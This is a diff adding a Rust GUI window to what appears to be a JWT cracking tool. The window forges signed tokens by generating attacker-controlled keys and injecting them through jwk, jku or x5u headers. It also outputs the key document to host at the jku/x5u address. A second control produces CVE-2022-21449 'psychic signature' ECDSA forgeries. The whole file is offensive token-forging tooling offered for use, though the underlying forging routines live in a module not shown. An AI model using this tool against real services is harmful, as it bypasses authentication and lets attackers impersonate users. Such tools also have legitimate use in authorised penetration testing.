@@ -0,0 +1,203 @@
+use eframe::egui;
+use egui::{ComboBox, RichText, TextEdit};
+use jsonwebtoken::Algorithm;
+use jwt_cracker::utils::forge::{
+    KeyDelivery, SignatureEncoding, SpoofKey, algorithm_name, forge_psychic_signature,
+};
+use serde_json::{Value, from_str};
+
+const SPOOF_ALGORITHMS: [Algorithm; 8] = [
+    Algorithm::RS256,
+    Algorithm::RS384,
+    Algorithm::RS512,
+    Algorithm::PS256,
+    Algorithm::PS384,
+    Algorithm::PS512,
+    Algorithm::ES256,
+    Algorithm::ES384,
+];
+
+const PSYCHIC_ALGORITHMS: [&str; 3] = ["ES256", "ES384", "ES512"];
+
+/// 公钥投递方式的选项
+#[derive(Debug, PartialEq, Eq, Clone, Copy)]
+enum DeliveryKind {
+    Jwk,
+    Jku,
+    X5u,
+}
+
+/// 密钥伪造窗口：本地生成密钥对，用 jwk / jku / x5u 头部重新签名
+pub(crate) struct ForgeWindow {
+    pub(crate) open: bool,
+    algorithm: Algorithm,
+    delivery: DeliveryKind,
+    url: String,
+    key: Option<SpoofKey>,
+    psychic_alg: &'static str,
+    forged_token: String,
+    /// 需要部署到 jku / x5u 地址的文档
+    document: String,
+    error: Option<String>,
+}
+
+impl Default for ForgeWindow {
+    fn default() -> Self {
+        Self {
+            open: false,
+            algorithm: Algorithm::RS256,
+            delivery: DeliveryKind::Jwk,
+            url: "http://127.0.0.1:8000/jwks.json".to_string(),
+            key: None,
+            psychic_alg: "ES256",
+            forged_token: "".to_string(),
+            document: "".to_string(),
+            error: None,
+        }
+    }
+}
+
+impl ForgeWindow {
+    pub(crate) fn forged_token(&self) -> &str {
+        &self.forged_token
+    }
+
+    pub(crate) fn show(&mut self, ctx: &egui::Context, header: &str, payload: &str) {
+        let mut open = self.open;
+        egui::Window::new("密钥伪造")
+            .open(&mut open)
+            .default_width(380.0)
+            .show(ctx, |ui| {
+                ui.horizontal(|ui| {
+                    ui.label("签名算法:");
+                    ComboBox::from_id_salt("spoof_algorithm")
+                        .selected_text(algorithm_name(self.algorithm))
+                        .show_ui(ui, |ui| {
+                            for algorithm in SPOOF_ALGORITHMS {
+                                if ui
+                                    .selectable_value(
+                                        &mut self.algorithm,
+                                        algorithm,
+                                        algorithm_name(algorithm),
+                                    )
+                                    .changed()
+                                {
+                                    self.key = None;
+                                }
+                            }
+                        });
+                });
+                ui.horizontal(|ui| {
+                    ui.label("公钥位置:");
+                    ui.radio_value(&mut self.delivery, DeliveryKind::Jwk, "内嵌 jwk");
+                    ui.radio_value(&mut self.delivery, DeliveryKind::Jku, "jku");
+                    ui.radio_value(&mut self.delivery, DeliveryKind::X5u, "x5u");
+                });
+                if self.delivery != DeliveryKind::Jwk {
+                    ui.add(
+                        TextEdit::singleline(&mut self.url)
+                            .desired_width(ui.available_width())
+                            .hint_text("JWKS 或 PEM 证书的访问地址"),
+                    );
+                }
+                ui.horizontal(|ui| {
+                    if ui.button("生成新密钥并签名").clicked() {
+                        self.key = None;
+                        self.forge(header, payload);
+                    }
+                    if ui.button("重新签名").clicked() {
+                        self.forge(header, payload);
+                    }
+                });
+                ui.separator();
+                ui.horizontal(|ui| {
+                    ui.label("Psychic Signature:")
+                        .on_hover_text("CVE-2022-21449，r=0 且 s=0 的 ECDSA 签名");
+                    ComboBox::from_id_salt("psychic_algorithm")
+                        .selected_text(self.psychic_alg)
+                        .show_ui(ui, |ui| {
+                            for alg in PSYCHIC_ALGORITHMS {
+                                ui.selectable_value(&mut self.psychic_alg, alg, alg);
+                            }
+                        });
+                    if ui.button("原始格式").clicked() {
+                        self.forge_psychic(header, payload, SignatureEncoding::Raw);
+                    }
+                    if ui.button("DER格式").clicked() {
+                        self.forge_psychic(header, payload, SignatureEncoding::Der);
+                    }
+                });
+                if let Some(error) = &self.error {
+                    ui.label(RichText::new(error).color(egui::Color32::RED));
+                }
+                ui.add(
+                    TextEdit::multiline(&mut self.forged_token)
+                        .font(egui::TextStyle::Monospace)
+                        .desired_rows(4)
+                        .desired_width(ui.available_width()),
+                )
+                .on_hover_text("伪造后的JWT");
+                ui.add(
+                    TextEdit::multiline(&mut self.document)
+                        .font(egui::TextStyle::Monospace)
+                        .desired_rows(6)
+                        .desired_width(ui.available_width()),
+                )
+                .on_hover_text("需要部署到 jku 地址的 JWKS 文档，或 x5u 地址的 PEM 证书");
+            });
+        self.open = open;
+    }
+
+    fn forge(&mut self, header: &str, payload: &str) {
+        self.error = None;
+        let (Ok(header_json), Ok(payload_json)) =
+            (from_str::<Value>(header), from_str::<Value>(payload))
+        else {
+            self.error = Some("Json格式有误".to_string());
+            return;
+        };
+
+        if self.key.is_none() {
+            match SpoofKey::generate(self.algorithm) {
+                Ok(key) => self.key = Some(key),
+                Err(e) => {
+                    self.error = Some(e.to_string());
+                    return;
+                }
+            }
+        }
+        let Some(key) = &self.key else {
+            return;
+        };
+
+        let delivery = match self.delivery {
+            DeliveryKind::Jwk => KeyDelivery::EmbeddedJwk,
+            DeliveryKind::Jku => KeyDelivery::Jku(self.url.clone()),
+            DeliveryKind::X5u => KeyDelivery::X5u(self.url.clone()),
+        };
+        match key.sign(&header_json, &payload_json, &delivery) {
+            Ok(token) => {
+                self.forged_token = token;
+                self.document = key.hosted_document(&delivery).unwrap_or_default();
+            }
+            Err(e) => self.error = Some(e.to_string()),
+        }
+    }
+
+    fn forge_psychic(&mut self, header: &str, payload: &str, encoding: SignatureEncoding) {
+        self.error = None;
+        let (Ok(header_json), Ok(payload_json)) =
+            (from_str::<Value>(header), from_str::<Value>(payload))
+        else {
+            self.error = Some("Json格式有误".to_string());
+            return;
+        };
+        match forge_psychic_signature(&header_json, &payload_json, self.psychic_alg, encoding) {
+            Ok(token) => {
+                self.forged_token = token;
+                self.document.clear();
+            }
+            Err(e) => self.error = Some(e.to_string()),
+        }
+    }
+}